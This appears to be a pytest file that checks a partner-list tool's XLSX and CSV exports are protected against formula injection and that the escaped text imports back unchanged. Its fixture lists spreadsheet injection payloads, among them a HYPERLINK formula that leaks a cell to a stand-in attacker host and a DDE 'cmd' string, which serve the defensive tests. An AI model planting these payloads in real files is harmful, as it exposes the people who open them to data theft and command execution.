"""Formula injection: a user's text never becomes a live formula in an export."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook
from sqlalchemy import select

from intl_desk.core.model import Partner
from intl_desk.exchange.export import export_list
from intl_desk.exchange.import_write import apply_import
from intl_desk.exchange.importer import preview_import
from intl_desk.store.office_file import OfficeFile

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+33 4 72 10 30 30",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "'=already quoted",
]
WHITESPACE_LED = ["\tcmd|' /C calc'!A0", "\r=2*3"]


@pytest.fixture
def injected(office: OfficeFile) -> OfficeFile:
    with office.session() as session:
        session.add_all(
            Partner(name=name, kind="city", country_code="FR", region=name)
            for name in [*DANGEROUS, *WHITESPACE_LED]
        )
        session.commit()
    return office


def test_xlsx_writes_every_user_text_as_text_never_as_a_formula(
    injected: OfficeFile, tmp_path: Path
) -> None:
    out = tmp_path / "partners.xlsx"
    with injected.session() as session:
        export_list(session, "partners", out)
    with zipfile.ZipFile(out) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
    texts = [item.findtext(f"{MAIN}t", "") for item in shared]
    assert sheet.findall(f".//{MAIN}f") == []  # no formula anywhere
    quoted = {
        index
        for index, xf in enumerate(styles.find(f"{MAIN}cellXfs"))
        if xf.get("quotePrefix") == "1"
    }
    for cell in sheet.iter(f"{MAIN}c"):
        assert cell.get("t") in (None, "s")  # a number, a date or a (shared) string
    workbook = load_workbook(out)
    names = {}
    for row in workbook.active.iter_rows(min_row=2):
        names[row[0].value] = row[0]
    for text in [*DANGEROUS, *WHITESPACE_LED]:
        cell = names[text]
        assert cell.data_type == "s"
        assert cell.value == text  # unchanged, only marked
        assert cell.quotePrefix or not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    raw_styles = {
        cell.get("s")
        for cell in sheet.iter(f"{MAIN}c")
        if cell.get("t") == "s" and texts[int(cell.findtext(f"{MAIN}v", "0"))].startswith("=")
    }
    assert raw_styles and all(int(style) in quoted for style in raw_styles)


def test_csv_prefixes_formula_like_text_with_an_apostrophe(
    injected: OfficeFile, tmp_path: Path
) -> None:
    out = tmp_path / "partners.csv"
    with injected.session() as session:
        export_list(session, "partners", out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for text in [*DANGEROUS, *WHITESPACE_LED]:
        assert "'" + text in cells
    assert "''=already quoted" in cells


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_neutralised_text_imports_back_exactly(
    injected: OfficeFile, tmp_path: Path, suffix: str, mappings_folder: Path
) -> None:
    out = tmp_path / f"partners{suffix}"
    with injected.session() as session:
        export_list(session, "partners", out)
    fresh = tmp_path / "fresh.sqlite"
    with OfficeFile.create(fresh, "Elsewhere") as office, office.session() as session:
        preview = preview_import(session, out, "partners", mappings_folder=mappings_folder)
        apply_import(session, preview)
        names = set(session.scalars(select(Partner.name)))
        regions = set(session.scalars(select(Partner.region)))
    assert set(DANGEROUS) <= names
    assert set(DANGEROUS) <= regions
